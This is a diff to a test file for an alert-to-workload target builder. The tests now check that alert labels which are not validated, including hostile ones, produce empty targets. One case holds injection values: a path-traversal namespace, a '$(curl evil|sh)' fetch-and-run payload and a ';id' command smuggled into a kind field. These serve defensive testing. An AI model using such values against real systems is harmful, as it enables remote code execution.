@@ -80,22 +80,29 @@ describe('buildScriptEnv', () => {
       labels: { alertname: 'A', namespace: 'prod', deployment: 'api', kind: 'DaemonSet' },
       expected: ['StatefulSet', 'data', 'db'],
     },
+    // Labels that did not become a validated target never pose as one (decide leaves the job
+    // without a target when they name no valid, allowed workload).
     {
-      name: 'deployment label',
+      name: 'unvalidated labels',
       labels: { alertname: 'A', namespace: 'prod', deployment: 'api', service: 'svc' },
-      expected: ['Deployment', 'prod', 'api'],
+      expected: ['', 'prod', ''],
     },
     {
-      name: 'service label when no deployment label',
-      labels: { alertname: 'A', namespace: 'prod', service: 'svc' },
-      expected: ['Deployment', 'prod', 'svc'],
+      name: 'hostile labels',
+      labels: {
+        alertname: 'A',
+        namespace: '../../etc',
+        deployment: '$(curl evil|sh)',
+        kind: 'DaemonSet;id',
+      },
+      expected: ['', '', ''],
     },
+    { name: 'nothing known', labels: { alertname: 'A' }, expected: ['', '', ''] },
     {
-      name: 'kind label',
-      labels: { alertname: 'A', namespace: 'prod', deployment: 'agent', kind: 'DaemonSet' },
-      expected: ['DaemonSet', 'prod', 'agent'],
+      name: 'a namespace label that is no namespace',
+      labels: { alertname: 'A', namespace: 'Prod ' },
+      expected: ['', '', ''],
     },
-    { name: 'nothing known', labels: { alertname: 'A' }, expected: ['Deployment', '', ''] },
   ];
   for (const c of targets) {
     test(`target: ${c.name}`, () => {
